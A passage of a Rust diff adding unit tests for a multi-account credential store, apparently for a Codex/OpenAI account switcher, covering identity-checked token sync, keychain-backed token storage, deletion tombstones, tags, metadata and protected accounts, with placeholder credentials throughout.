+            used: Some(160),
+            limit: Some(177),
+            remaining: None,
+        };
+        let none = WindowCounts::default();
+
+        assert!(below_threshold(9.0, &none, 10, ThresholdUnit::Percent));
+        assert!(!below_threshold(10.0, &none, 10, ThresholdUnit::Percent));
+        assert!(
+            !below_threshold(9.0, &none, 0, ThresholdUnit::Percent),
+            "0 = 关闭"
+        );
+
+        // 剩 17 次，阈值 20 次
+        assert!(below_threshold(9.6, &counts, 20, ThresholdUnit::Count));
+        assert!(!below_threshold(9.6, &counts, 17, ThresholdUnit::Count));
+        // 只有百分比的账号不按次数阈值触发
+        assert!(!below_threshold(1.0, &none, 20, ThresholdUnit::Count));
+
+        assert_eq!(ThresholdUnit::Percent.format(10), "10%");
+        assert_eq!(ThresholdUnit::Count.format(20), "20 次");
+        assert_eq!(
+            serde_json::from_value::<AppSettings>(serde_json::json!({}))
+                .unwrap()
+                .proxy_threshold_unit,
+            ThresholdUnit::Percent
+        );
+    }
+
     #[test]
     fn sync_rejects_when_email_mismatch_even_if_identity_matches() {
         let mut store = AccountStore::default();
@@ -1759,6 +4318,325 @@ mod tests {
         assert!(!changed, "refresh token equality must not be enough");
     }
 
+    // ===== account_id 根级 / tokens 下 =====
+
+    /// 把 account_id 从 tokens 挪到根上，模拟部分 Codex 版本的写法
+    fn with_root_account_id(mut auth: Value, account_id: &str) -> Value {
+        auth["tokens"].as_object_mut().unwrap().remove("account_id");
+        auth["account_id"] = serde_json::json!(account_id);
+        auth
+    }
+
+    #[test]
+    fn extract_account_id_checks_tokens_then_root() {
+        let nested = auth_with_identity("a@example.com", "acct-1", "rt");
+        let root = with_root_account_id(nested.clone(), "acct-1");
+        let mut both = nested.clone();
+        both["account_id"] = serde_json::json!("acct-root");
+        let absent = with_root_account_id(nested.clone(), "  ");
+
+        for auth in [&nested, &root, &both] {
+            assert_eq!(
+                AccountStore::extract_account_id(auth).as_deref(),
+                Some("acct-1")
+            );
+        }
+        assert_eq!(AccountStore::extract_account_id(&absent), None);
+    }
+
+    #[test]
+    fn identity_matching_sees_root_level_account_id() {
+        let nested = auth_with_identity("a@example.com", "acct-1", "rt");
+        let root = with_root_account_id(nested.clone(), "acct-1");
+        let other_root = with_root_account_id(nested.clone(), "acct-2");
+        assert!(AccountStore::auth_identity_matches(&nested, &root));
+        assert!(AccountStore::auth_identity_matches(&root, &nested));
+        assert!(!AccountStore::auth_identity_matches(&nested, &other_root));
+
+        // 两处都有且不同：以 tokens 为准
+        let mut both = nested.clone();
+        both["account_id"] = serde_json::json!("acct-2");
+        assert!(AccountStore::auth_identity_matches(&both, &nested));
+        assert!(!AccountStore::auth_identity_matches(&both, &other_root));
+
+        // 都没有 account_id、也没有 uid：不匹配
+        let absent = serde_json::json!({ "tokens": { "access_token": "x" } });
+        assert!(!AccountStore::auth_identity_matches(&absent, &absent));
+    }
+
+    #[test]
+    fn canonicalize_moves_root_account_id_under_tokens() {
+        let nested = auth_with_identity("a@example.com", "acct-1", "rt");
+
+        let mut root = with_root_account_id(nested.clone(), "acct-1");
+        assert!(AccountStore::canonicalize_account_id(&mut root));
+        assert_eq!(root, nested);
+
+        let mut both = nested.clone();
+        both["account_id"] = serde_json::json!("acct-root");
+        assert!(AccountStore::canonicalize_account_id(&mut both));
+        assert_eq!(both, nested, "tokens 里的值优先，根级的丢掉");
+
+        let mut unchanged = nested.clone();
+        assert!(!AccountStore::canonicalize_account_id(&mut unchanged));
+        let mut api_key = serde_json::json!({ "OPENAI_API_KEY": "sk-x", "account_id": "a" });
+        assert!(!AccountStore::canonicalize_account_id(&mut api_key));
+        assert_eq!(api_key["account_id"], "a");
+
+        let disk = AccountStore::normalize_codex_auth_for_disk(&with_root_account_id(
+            nested.clone(),
+            "acct-1",
+        ));
+        assert_eq!(disk, nested);
+    }
+
+    #[test]
+    fn sync_accepts_root_level_external_auth() {
+        let mut store = AccountStore::default();
+        let local = auth_with_identity("a@example.com", "acct-1", "rt-old");
+        let account = store.add_account("a@example.com".to_string(), local, None);
+
+        let external = with_root_account_id(
+            auth_with_identity("a@example.com", "acct-1", "rt-new"),
+            "acct-1",
+        );
+        assert!(store.sync_account_from_auth_json(&account.id, external));
+
+        let other = with_root_account_id(
+            auth_with_identity("a@example.com", "acct-2", "rt-other"),
+            "acct-2",
+        );
+        assert!(!store.sync_account_from_auth_json(&account.id, other));
+    }
+
+    #[test]
+    fn refused_sync_reports_warning_code() {
+        let mut store = AccountStore::default();
+        let local = auth_with_identity("a@example.com", "acct-1", "rt-old");
+        let account = store.add_account("a@example.com".to_string(), local, None);
+        let code = |result: Result<bool, Warning>| result.unwrap_err().code;
+
+        let other = auth_with_identity("a@example.com", "acct-2", "rt-other");
+        assert_eq!(
+            code(store.try_sync_account_from_auth_json(&account.id, other)),
+            WarningCode::SyncIdentityMismatch
+        );
+
+        let renamed = auth_with_identity("b@example.com", "acct-1", "rt-new");
+        let refused = store
+            .try_sync_account_from_auth_json(&account.id, renamed)
+            .unwrap_err();
+        assert_eq!(refused.code, WarningCode::SyncEmailMismatch);
+        assert_eq!(refused.params["token_email"], "b@example.com");
+        assert_eq!(
+            store.accounts[&account.id].refresh_token.as_deref(),
+            Some("rt-old"),
+            "被拒的同步不改本地"
+        );
+
+        let same = auth_with_identity("a@example.com", "acct-1", "rt-new");
+        assert_eq!(
+            store.try_sync_account_from_auth_json(&account.id, same),
+            Ok(true)
+        );
+        assert_eq!(
+            store.try_sync_account_from_auth_json("missing", Value::Null),
+            Ok(false)
+        );
+    }
+
+    #[test]
+    fn stored_email_is_kept_current_and_used_for_the_sync_check() {
+        let mut store = AccountStore::default();
+        // 名字带 @ 但不是登录邮箱：以前会挡住所有同步
+        let local = auth_with_identity("real@example.com", "acct-1", "rt-old");
+        let account = store.add_account("team@shared.dev".to_string(), local, None);
+        assert_eq!(account.email.as_deref(), Some("real@example.com"));
+
+        let rotated = auth_with_identity("Real@Example.com", "acct-1", "rt-new");
+        assert_eq!(
+            store.try_sync_account_from_auth_json(&account.id, rotated),
+            Ok(true)
+        );
+        assert_eq!(
+            store.accounts[&account.id].email.as_deref(),
+            Some("Real@Example.com")
+        );
+        let other = auth_with_identity("other@example.com", "acct-1", "rt-x");
+        assert_eq!(
+            store
+                .try_sync_account_from_auth_json(&account.id, other)
+                .unwrap_err()
+                .code,
+            WarningCode::SyncEmailMismatch
+        );
+
+        // 老版本存的账号没有 email：加载时补上
+        store.accounts.get_mut(&account.id).unwrap().email = None;
+        let relay = store
+            .add_relay_account(
+                "relay".to_string(),
+                "https://relay.example.com/v1".to_string(),
+                "sk-test".to_string(),
+                None,
+                None,
+                None,
+                None,
+                None,
+                None,
+                None,
+                None,
+            )
+            .id;
+        assert!(store.backfill_emails());
+        assert_eq!(
+            store.accounts[&account.id].email.as_deref(),
+            Some("Real@Example.com")
+        );
+        assert_eq!(store.accounts[&relay].email, None);
+        assert!(!store.backfill_emails());
+    }
+
+    #[test]
+    fn refresh_paths_record_refresh_token_use() {
+        let mut store = AccountStore::default();
+        let local = auth_with_identity("a@example.com", "acct-1", "rt-old");
+        let account = store.add_account("a@example.com".to_string(), local, None);
+        assert_eq!(store.accounts[&account.id].refresh_token_used_at, None);
+
+        // 同一个 rt 原样同步回来不算使用过
+        let same = auth_with_identity("a@example.com", "acct-1", "rt-old");
+        store.sync_account_from_auth_json(&account.id, same);
+        assert_eq!(store.accounts[&account.id].refresh_token_used_at, None);
+
+        let mut rotated = auth_with_identity("a@example.com", "acct-1", "rt-new");
+        rotated["last_refresh"] = serde_json::json!("2026-01-02T03:04:05Z");
+        store.sync_account_from_auth_json(&account.id, rotated);
+        assert_eq!(
+            store.accounts[&account.id].refresh_token_used_at,
+            Some("2026-01-02T03:04:05Z".parse().unwrap())
+        );
+
+        let acc = store.accounts.get_mut(&account.id).unwrap();
+        AccountStore::apply_refreshed_tokens(acc, "at".into(), None, None, None);
+        assert!(acc.refresh_token_used_at.unwrap() > Utc::now() - chrono::Duration::minutes(1));
+    }
+
+    #[test]
+    fn reconcile_canonicalizes_stored_accounts() {
+        let mut store = AccountStore::default();
+        let nested = auth_with_identity("a@example.com", "acct-1", "rt");
+        let root = store.add_account(
+            "a@example.com".to_string(),
+            with_root_account_id(nested.clone(), "acct-1"),
+            None,
+        );
+        let plain = store.add_account("b@example.com".to_string(), nested.clone(), None);
+
+        let disk = with_root_account_id(nested.clone(), "acct-1");
+        assert!(store.reconcile_root_account_ids(Some(&disk)));
+        assert_eq!(store.accounts[&root.id].auth_json, nested);
+        assert_eq!(store.accounts[&plain.id].auth_json, nested);
+        assert!(!store.reconcile_root_account_ids(Some(&disk)), "只迁移一次");
+        assert!(!store.reconcile_root_account_ids(None));
+    }
+
+    #[test]
+    fn reconcile_account_ids_reports_then_applies() {
+        let mut store = AccountStore::default();
+        let mut wrong = auth_with_identity("team@example.com", "ws-team", "rt-1");
+        wrong["tokens"]["account_id"] = serde_json::json!("user-sub");
+        let wrong = store.add_account("team@example.com".to_string(), wrong, None);
+        let ok = store.add_account(
+            "ok@example.com".to_string(),
+            auth_with_identity("ok@example.com", "ws-ok", "rt-2"),
+            None,
+        );
+        store.add_account(
+            "no-id-token@example.com".to_string(),
+            serde_json::json!({ "tokens": { "access_token": "x", "account_id": "a" } }),
+            None,
+        );
+
+        let report = store.reconcile_account_ids(false);
+        assert_eq!(report.len(), 1);
+        assert_eq!(report[0].id, wrong.id);
+        assert_eq!(report[0].old_account_id.as_deref(), Some("user-sub"));
+        assert_eq!(report[0].new_account_id, "ws-team");
+        assert_eq!(
+            AccountStore::extract_account_id(&store.accounts[&wrong.id].auth_json).as_deref(),
+            Some("user-sub"),
+            "dry run 不改"
+        );
+
+        assert_eq!(store.reconcile_account_ids(true).len(), 1);
+        assert_eq!(
+            AccountStore::extract_account_id(&store.accounts[&wrong.id].auth_json).as_deref(),
+            Some("ws-team")
+        );
+        assert_eq!(
+            AccountStore::extract_account_id(&store.accounts[&ok.id].auth_json).as_deref(),
+            Some("ws-ok")
+        );
+        assert!(store.reconcile_account_ids(false).is_empty());
+    }
+
+    #[test]
+    fn reconcile_account_ids_fixes_root_level_ids_too() {
+        let mut store = AccountStore::default();
+        let auth = with_root_account_id(
+            auth_with_identity("a@example.com", "ws-a", "rt"),
+            "user-sub",
+        );
+        let acc = store.add_account("a@example.com".to_string(), auth, None);
+        assert_eq!(store.reconcile_account_ids(true).len(), 1);
+        let fixed = &store.accounts[&acc.id].auth_json;
+        assert!(fixed.get("account_id").is_none());
+        assert_eq!(fixed["tokens"]["account_id"], "ws-a");
+    }
+
+    #[test]
+    fn user_id_falls_back_to_id_token() {
+        let header = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(r#"{"alg":"none"}"#);
+        let payload = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(
+            r#"{"sub":"auth0|x","https://api.openai.com/auth":{"chatgpt_user_id":"user-x"}}"#,
+        );
+        let auth = serde_json::json!({
+            "tokens": { "access_token": "opaque", "id_token": format!("{header}.{payload}.sig") }
+        });
+        assert_eq!(
+            AccountStore::extract_openai_user_id(&auth).as_deref(),
+            Some("user-x")
+        );
+    }
+
+    #[test]
+    fn access_token_expiry_prefers_jwt_exp() {
+        let payload =
+            base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(r#"{"exp":1700000000}"#);
+        let auth = serde_json::json!({
+            "tokens": {
+                "access_token": format!("eyJ.{payload}.sig"),
+                "expires_at": "2023-11-01T00:00:00Z"
+            }
+        });
+        assert_eq!(
+            AccountStore::extract_access_token_expiry(&auth),
+            DateTime::from_timestamp(1_700_000_000, 0)
+        );
+
+        // 不是 JWT 时退回 expires_at，都没有就是 None
+        let opaque = serde_json::json!({
+            "tokens": { "access_token": "opaque", "expires_at": "2023-11-01T00:00:00Z" }
+        });
+        assert_eq!(
+            AccountStore::extract_access_token_expiry(&opaque),
+            DateTime::from_timestamp(1_698_796_800, 0)
+        );
+        let unknown = serde_json::json!({ "tokens": { "access_token": "opaque" } });
+        assert_eq!(AccountStore::extract_access_token_expiry(&unknown), None);
+    }
+
     // ===== session-anchor (手机锚) v0.7+ =====
 
     /// 构造一个 access_token 以 `eyJ` 开头的 OAuth 鉴权 JSON。
@@ -1931,4 +4809,1213 @@ mod tests {
             .expect("无 anchor 时不报错");
         assert!(!did_write, "无 anchor 时不该写盘");
     }
+
+    fn keychain_store(include_access: bool) -> (AccountStore, String, String) {
+        let (mut store, pro_id, free_id) = make_oauth_store();
+        store.settings.token_storage = TokenStorage::Keychain;
+        store.settings.keychain_include_access_tokens = include_access;
+        (store, pro_id, free_id)
+    }
+
+    #[test]
+    fn file_storage_keeps_tokens_inline() {
+        let (store, pro_id, _) = make_oauth_store();
+        let backend = token_store::MemoryBackend::default();
+        let (view, failures) = store.persisted_view(&backend);
+        assert!(failures.is_empty());
+        assert!(backend.entries.lock().unwrap().is_empty());
+        assert_eq!(
+            view.accounts[&pro_id].refresh_token.as_deref(),
+            Some("rt-pro")
+        );
+        assert_eq!(view.accounts[&pro_id].token_ref, None);
+    }
+
+    #[test]
+    fn keychain_view_strips_tokens_and_hydrate_restores_them() {
+        let (store, pro_id, _) = keychain_store(false);
+        let backend = token_store::MemoryBackend::default();
+        let (view, failures) = store.persisted_view(&backend);
+        assert!(failures.is_empty());
+        let saved = &view.accounts[&pro_id];
+        assert_eq!(saved.refresh_token, None);
+        assert!(saved.auth_json.pointer("/tokens/refresh_token").is_none());
+        assert!(saved.auth_json.pointer("/tokens/access_token").is_some());
+        assert_eq!(saved.token_ref, Some(token_store::token_ref_key(&pro_id)));
+        assert_eq!(backend.entries.lock().unwrap().len(), 2);
+        // 内存里的 store 不受影响
+        assert_eq!(
+            store.accounts[&pro_id].refresh_token.as_deref(),
+            Some("rt-pro")
+        );
+
+        let json = serde_json::to_string(&view).unwrap();
+        assert!(!json.contains("rt-pro"));
+        let mut loaded: AccountStore = serde_json::from_str(&json).unwrap();
+        assert!(loaded.hydrate_tokens_with(&backend).is_empty());
+        assert_eq!(
+            loaded.accounts[&pro_id].auth_json,
+            store.accounts[&pro_id].auth_json
+        );
+        assert_eq!(
+            loaded.accounts[&pro_id].refresh_token.as_deref(),
+            Some("rt-pro")
+        );
+        assert_eq!(loaded.accounts[&pro_id].token_ref, None);
+        assert!(loaded.export().unwrap().contains("rt-pro"));
+    }
+
+    #[test]
+    fn trashed_accounts_keep_their_tokens_in_keychain_mode() {
+        let (mut store, pro_id, _) = keychain_store(false);
+        store.delete_account(&pro_id).unwrap();
+        let backend = token_store::MemoryBackend::default();
+        let (view, failures) = store.persisted_view(&backend);
+        assert!(failures.is_empty());
+        let json = serde_json::to_string(&view).unwrap();
+        assert!(!json.contains("rt-pro"), "回收站里的 token 也不能明文落盘");
+
+        let mut loaded: AccountStore = serde_json::from_str(&json).unwrap();
+        assert_eq!(
+            loaded.unresolved_token_accounts(),
+            vec!["free@example.com", "pro@example.com"]
+        );
+        assert!(loaded.hydrate_tokens_with(&backend).is_empty());
+        loaded.restore_from_trash(&pro_id).unwrap();
+        assert_eq!(
+            loaded.accounts[&pro_id].refresh_token.as_deref(),
+            Some("rt-pro")
+        );
+    }
+
+    #[test]
+    fn keychain_view_can_include_access_tokens() {
+        let (store, pro_id, _) = keychain_store(true);
+        let backend = token_store::MemoryBackend::default();
+        let (view, _) = store.persisted_view(&backend);
+        let tokens = &view.accounts[&pro_id].auth_json["tokens"];
+        assert_eq!(tokens, &serde_json::json!({ "account_id": "acct-pro" }));
+
+        let mut loaded: AccountStore =
+            serde_json::from_str(&serde_json::to_string(&view).unwrap()).unwrap();
+        loaded.hydrate_tokens_with(&backend);
+        assert_eq!(
+            loaded.accounts[&pro_id].auth_json,
+            store.accounts[&pro_id].auth_json
+        );
+    }
+
+    #[test]
+    fn keychain_write_failure_falls_back_to_inline_tokens() {
+        let (store, pro_id, _) = keychain_store(false);
+        let backend = token_store::MemoryBackend::default();
+        *backend.fail_with.lock().unwrap() = Some(TokenBackendError::KeychainLocked {
+            detail: "locked".to_string(),
+        });
+        let (view, failures) = store.persisted_view(&backend);
+        assert_eq!(failures.len(), 2);
+        assert_eq!(failures[0].1.code(), "KEYCHAIN_LOCKED");
+        assert_eq!(
+            view.accounts[&pro_id].auth_json,
+            store.accounts[&pro_id].auth_json
+        );
+        assert_eq!(
+            view.accounts[&pro_id].refresh_token.as_deref(),
+            Some("rt-pro")
+        );
+        assert_eq!(view.accounts[&pro_id].token_ref, None);
+    }
+
+    #[test]
+    fn locked_keychain_on_load_keeps_reference_and_blocks_export() {
+        let (store, pro_id, _) = keychain_store(false);
+        let backend = token_store::MemoryBackend::default();
+        let (view, _) = store.persisted_view(&backend);
+        let json = serde_json::to_string(&view).unwrap();
+
+        *backend.fail_with.lock().unwrap() = Some(TokenBackendError::KeychainUnavailable {
+            detail: "no secret service".to_string(),
+        });
+        let mut loaded: AccountStore = serde_json::from_str(&json).unwrap();
+        assert_eq!(loaded.hydrate_tokens_with(&backend).len(), 2);
+        assert_eq!(loaded.unresolved_token_accounts().len(), 2);
+        assert!(loaded.export().unwrap_err().contains("pro@example.com"));
+
+        // 读不出来时再保存，不能拿空 token 覆盖凭据库
+        let (again, failures) = loaded.persisted_view(&backend);
+        assert!(failures.is_empty());
+        assert_eq!(
+            again.accounts[&pro_id].token_ref,
+            Some(token_store::token_ref_key(&pro_id))
+        );
+
+        *backend.fail_with.lock().unwrap() = None;
+        assert!(loaded.hydrate_tokens_with(&backend).is_empty());
+        assert!(loaded.unresolved_token_accounts().is_empty());
+        assert_eq!(
+            loaded.accounts[&pro_id].refresh_token.as_deref(),
+            Some("rt-pro")
+        );
+    }
+
+    #[test]
+    fn missing_keychain_entry_drops_reference() {
+        let (store, pro_id, _) = keychain_store(false);
+        let backend = token_store::MemoryBackend::default();
+        let (view, _) = store.persisted_view(&backend);
+        backend.entries.lock().unwrap().clear();
+
+        let mut loaded: AccountStore =
+            serde_json::from_str(&serde_json::to_string(&view).unwrap()).unwrap();
+        let failures = loaded.hydrate_tokens_with(&backend);
+        assert_eq!(failures.len(), 2);
+        assert_eq!(loaded.accounts[&pro_id].token_ref, None);
+        assert_eq!(loaded.accounts[&pro_id].refresh_token, None);
+    }
+
+    #[test]
+    fn accounts_without_profile_refresh_with_builtin() {
+        let (mut store, pro_id, free_id) = make_oauth_store();
+        let corp = AuthProfile {
+            id: "corp".to_string(),
+            issuer: "https://sso.corp.example".to_string(),
+            client_id: "corp-client".to_string(),
+            ..AuthProfile::builtin()
+        };
+        store.settings.auth_profiles.push(corp.clone());
+        store.accounts.get_mut(&pro_id).unwrap().auth_profile_id = Some("corp".to_string());
+
+        // 老数据里没有这个字段，反序列化后也是内置 profile
+        let json = serde_json::to_string(&store).unwrap();
+        let mut reloaded: AccountStore = serde_json::from_str(&json).unwrap();
+        let free = &reloaded.accounts[&free_id];
+        assert_eq!(free.auth_profile_id, None);
+        assert_eq!(reloaded.auth_profile_of(free), AuthProfile::builtin());
+        assert_eq!(reloaded.auth_profile_of(&reloaded.accounts[&pro_id]), corp);
+
+        reloaded.settings.auth_profiles.clear();
+        assert_eq!(
+            reloaded.auth_profile_of(&reloaded.accounts[&pro_id]),
+            AuthProfile::builtin()
+        );
+    }
+
+    #[test]
+    fn mutations_keep_updated_at_current() {
+        let (mut store, pro_id, free_id) = make_oauth_store();
+        let relay_id = add_relay(&mut store, "relay");
+        assert_eq!(store.stamp_changes(), 0, "第一次只建立基线");
+        let before = store.changes_cursor().unwrap();
+        let touched = |store: &AccountStore, id: &str| store.accounts[id].modified_at() > before;
+        assert!(!touched(&store, &pro_id));
+
+        store
+            .update_account(&pro_id, None, Some("备注".into()))
+            .unwrap();
+        store.set_account_color(&free_id, Some("#FF8000")).unwrap();
+        assert!(touched(&store, &pro_id) && touched(&store, &free_id));
+        let stamped = store.accounts[&pro_id].updated_at;
+
+        // 直接改字段的靠 stamp_changes 补记；方法里记过的不被覆盖
+        store.accounts.get_mut(&relay_id).unwrap().relay_usage_cache = None;
+        assert_eq!(store.stamp_changes(), 0, "值没变不算修改");
+        store.accounts.get_mut(&relay_id).unwrap().is_banned = true;
+        assert_eq!(store.stamp_changes(), 1);
+        assert!(touched(&store, &relay_id));
+        assert_eq!(store.accounts[&pro_id].updated_at, stamped);
+
+        let after_sweep = store.changes_cursor().unwrap();
+        let auth = oauth_auth("free@example.com", "acct-free", "rt-free-2");
+        assert!(store.sync_account_from_auth_json(&free_id, auth));
+        assert!(store.accounts[&free_id].modified_at() > after_sweep);
+
+        // 落盘往返后还在；没有这个字段的老账号按创建时间算
+        let json = serde_json::to_string(&store).unwrap();
+        let mut reloaded: AccountStore = serde_json::from_str(&json).unwrap();
+        assert_eq!(reloaded.accounts[&pro_id].updated_at, stamped);
+        let legacy = reloaded.accounts.get_mut(&relay_id).unwrap();
+        legacy.updated_at = None;
+        assert_eq!(legacy.modified_at(), legacy.created_at);
+    }
+
+    #[test]
+    fn deletions_leave_capped_tombstones() {
+        let (mut store, pro_id, free_id) = make_oauth_store();
+        store.stamp_changes();
+        store.delete_account(&pro_id).unwrap();
+        // 绕过 delete_account 直接删的，在下一次 stamp_changes 时补记
+        store.accounts.remove(&free_id);
+        assert_eq!(store.deleted_accounts.len(), 1);
+        store.stamp_changes();
+        let ids: Vec<_> = store
+            .deleted_accounts
+            .iter()
+            .map(|t| t.id.as_str())
+            .collect();
+        assert_eq!(ids, vec![pro_id.as_str(), free_id.as_str()]);
+        assert_eq!(store.tombstones_pruned_at, None);
+
+        for i in 0..MAX_TOMBSTONES {
+            let id = add_relay(&mut store, &format!("tmp{}", i));
+            store.delete_account(&id).unwrap();
+        }
+        assert_eq!(store.deleted_accounts.len(), MAX_TOMBSTONES);
+        assert!(store
+            .deleted_accounts
+            .iter()
+            .all(|t| t.id != pro_id && t.id != free_id));
+        let newest_pruned = store.tombstones_pruned_at.expect("裁剪点");
+        assert!(newest_pruned <= store.deleted_accounts[0].deleted_at);
+
+        let json = serde_json::to_string(&store).unwrap();
+        let reloaded: AccountStore = serde_json::from_str(&json).unwrap();
+        assert_eq!(reloaded.deleted_accounts, store.deleted_accounts);
+        assert_eq!(reloaded.tombstones_pruned_at, Some(newest_pruned));
+    }
+
+    #[test]
+    fn tags_are_normalized_and_survive_export() {
+        let mut store = AccountStore::default();
+        let id = add_relay(&mut store, "relay");
+        assert!(store.accounts[&id].tags.is_empty());
+
+        store
+            .set_account_tags(
+                &id,
+                vec![" 工作 ".into(), "".into(), "Team".into(), "team".into()],
+            )
+            .unwrap();
+        assert_eq!(store.accounts[&id].tags, vec!["工作", "Team"]);
+        assert!(store.accounts[&id].has_any_tag(&["TEAM".into()]));
+        assert!(!store.accounts[&id].has_any_tag(&["个人".into()]));
+        assert!(store.accounts[&id].has_any_tag(&[]));
+        assert!(store
+            .set_account_tags(&id, vec!["x".repeat(MAX_TAG_CHARS + 1)])
+            .is_err());
+        assert!(store.set_account_tags("missing", vec![]).is_err());
+
+        let imported = AccountStore::import(&store.export().unwrap()).unwrap();
+        assert_eq!(imported.accounts[&id].tags, vec!["工作", "Team"]);
+
+        // 没有 tags 字段的老账号读出来是空表，写回去也不带这个字段
+        let mut legacy = serde_json::to_value(&store.accounts[&id]).unwrap();
+        legacy.as_object_mut().unwrap().remove("tags");
+        let legacy: Account = serde_json::from_value(legacy).unwrap();
+        assert!(legacy.tags.is_empty());
+        assert!(serde_json::to_value(&legacy).unwrap().get("tags").is_none());
+    }
+
+    #[test]
+    fn metadata_keys_are_normalized_capped_and_survive_update_and_export() {
+        let mut store = AccountStore::default();
+        let id = add_relay(&mut store, "relay");
+        store
+            .set_account_metadata(&id, " Team ", " infra ")
+            .unwrap();
+        store.set_account_metadata(&id, "OWNER", "alice").unwrap();
+        store.set_account_metadata(&id, "owner", "bob").unwrap();
+        let expected = std::collections::BTreeMap::from([
+            ("owner".to_string(), "bob".to_string()),
+            ("team".to_string(), "infra".to_string()),
+        ]);
+        assert_eq!(store.accounts[&id].metadata, expected);
+
+        assert!(store.set_account_metadata(&id, "  ", "x").is_err());
+        assert!(store.set_account_metadata(&id, "k", " ").is_err());
+        assert!(store
+            .set_account_metadata(&id, "k", &"x".repeat(MAX_METADATA_VALUE_BYTES + 1))
+            .is_err());
+        assert!(store.set_account_metadata("missing", "k", "v").is_err());
+
+        store
+            .update_account(&id, Some("renamed".into()), Some("备注".into()))
+            .unwrap();
+        assert_eq!(store.accounts[&id].metadata, expected);
+        let imported = AccountStore::import(&store.export().unwrap()).unwrap();
+        assert_eq!(imported.accounts[&id].metadata, expected);
+
+        assert!(store.delete_account_metadata(&id, "Owner").unwrap());
+        assert!(!store.delete_account_metadata(&id, "owner").unwrap());
+        for i in 0..MAX_METADATA_ENTRIES - 1 {
+            store
+                .set_account_metadata(&id, &format!("k{}", i), "v")
+                .unwrap();
+        }
+        assert!(store.set_account_metadata(&id, "one-more", "v").is_err());
+        // 已有的键照样能改
+        store.set_account_metadata(&id, "team", "web").unwrap();
+
+        // 没有 metadata 字段的老账号读出来是空表，写回去也不带这个字段
+        store.accounts.get_mut(&id).unwrap().metadata.clear();
+        let json = serde_json::to_value(&store.accounts[&id]).unwrap();
+        assert!(json.get("metadata").is_none());
+        let legacy: Account = serde_json::from_value(json).unwrap();
+        assert!(legacy.metadata.is_empty());
+    }
+
+    #[test]
+    fn protected_accounts_cannot_be_deleted_until_unprotected() {
+        let mut store = AccountStore::default();
+        let id = add_relay(&mut store, "公司主号");
+        store.set_account_protected(&id, true).unwrap();
+        assert!(store.set_account_protected("missing", true).is_err());
+
+        let err = store.delete_account(&id).unwrap_err();
+        assert!(
+            err.contains("公司主号") && err.contains("受保护"),
+            "{}",
+            err
+        );
+        assert!(store.accounts.contains_key(&id));
+        assert!(store.ensure_unprotected(&id, "覆盖").is_err());
+        assert!(store.ensure_unprotected("missing", "覆盖").is_ok());
+
+        // 标记跟着导出走，复制出来的副本不带
+        let imported = AccountStore::import(&store.export().unwrap()).unwrap();
+        assert!(imported.accounts[&id].protected);
+        let copy = store.clone_account(&id, "副本".to_string()).unwrap();
+        assert!(!copy.protected);
+
+        store.set_account_protected(&id, false).unwrap();
+        store.delete_account(&id).unwrap();
+        assert!(store.trash.contains_key(&id));
+    }
+
+    #[test]
+    fn bulk_delete_validates_every_id_and_skips_with_reasons() {
+        let mut store = AccountStore::default();
+        let [a, b, current, guarded] =
+            ["a", "b", "current", "guarded"].map(|name| add_relay(&mut store, name));
+        store.current = Some(current.clone());
+        store.set_account_protected(&guarded, true).unwrap();
+
+        let ids = vec![
+            a.clone(),
+            "missing".to_string(),
+            a.clone(),
+            current.clone(),
+            guarded.clone(),
+            b.clone(),
+        ];
+        let result = store.delete_accounts(&ids, false);
+        assert_eq!(result.removed, vec![a.clone(), b.clone()]);
+        let skipped: Vec<&str> = result.skipped.iter().map(|s| s.id.as_str()).collect();
+        assert_eq!(skipped, vec!["missing", &a, &current, &guarded]);
+        assert!(result.skipped[2].reason.contains("当前账号"));
+        assert!(result.skipped[3].reason.contains("受保护"));
+        assert!(store.trash.contains_key(&a) && store.trash.contains_key(&b));
+        assert_eq!(store.current.as_deref(), Some(current.as_str()));
+
+        // 明确允许时当前账号也删，current 清空而不是随便指一个
+        let result = store.delete_accounts(std::slice::from_ref(&current), true);
+        assert_eq!(result.removed, vec![current]);
+        assert_eq!(store.current, None);
+        assert!(store.accounts.contains_key(&guarded));
+    }
+
+    #[test]
+    fn appearance_is_validated_kept_by_update_and_exported() {
+        let (mut store, pro_id, free_id) = make_oauth_store();
+        // 新号自动按色板分配不同颜色
+        assert_eq!(
+            store.accounts[&pro_id].color.as_deref(),
+            Some(ACCOUNT_COLOR_PALETTE[0])
+        );
+        assert_eq!(
+            store.accounts[&free_id].color.as_deref(),
+            Some(ACCOUNT_COLOR_PALETTE[1])
+        );
+
+        store
+            .update_account_appearance(&pro_id, Some("#AA00FF"), Some(" 🦊 "))
+            .unwrap();
+        store
+            .update_account(&pro_id, Some("改名".to_string()), None)
+            .unwrap();
+        let pro = &store.accounts[&pro_id];
+        assert_eq!(pro.color.as_deref(), Some("#aa00ff"));
+        assert_eq!(pro.avatar_emoji.as_deref(), Some("🦊"));
+
+        assert!(store
+            .update_account_appearance(&pro_id, None, Some("pro"))
+            .is_err());
+        assert!(store
+            .update_account_appearance(&pro_id, Some("red"), None)
+            .is_err());
+        assert_eq!(store.accounts[&pro_id].avatar_emoji.as_deref(), Some("🦊"));
+        assert_eq!(normalize_avatar_emoji("👩‍💻").unwrap().as_deref(), Some("👩‍💻"));
+
+        let imported = AccountStore::import(&store.export().unwrap()).unwrap();
+        assert_eq!(
+            imported.accounts[&pro_id].avatar_emoji.as_deref(),
+            Some("🦊")
+        );
+
+        store
+            .update_account_appearance(&pro_id, Some(""), None)
+            .unwrap();
+        let legacy: Account =
+            serde_json::from_value(serde_json::to_value(&store.accounts[&pro_id]).unwrap())
+                .unwrap();
+        assert_eq!(legacy.color, None);
+        assert_eq!(legacy.avatar_emoji, None);
+    }
+
+    #[test]
+    fn switch_history_is_capped_and_old_stores_load_without_it() {
+        let (mut store, pro_id, _) = make_oauth_store();
+        let start = Utc::now();
+        let pro = store.accounts.get_mut(&pro_id).unwrap();
+        for i in 0..(MAX_SWITCH_HISTORY as i64 + 5) {
+            pro.record_switch(start + chrono::Duration::minutes(i));
+        }
+        assert_eq!(pro.switch_count, MAX_SWITCH_HISTORY as u64 + 5);
+        assert_eq!(pro.switch_history.len(), MAX_SWITCH_HISTORY);
+        assert_eq!(pro.switch_history[0], start + chrono::Duration::minutes(5));
+        assert_eq!(pro.last_used, pro.switch_history.last().copied());
+
+        // 导入进来的超长历史在落盘时裁掉
+        pro.switch_history.extend(std::iter::repeat_n(start, 10));
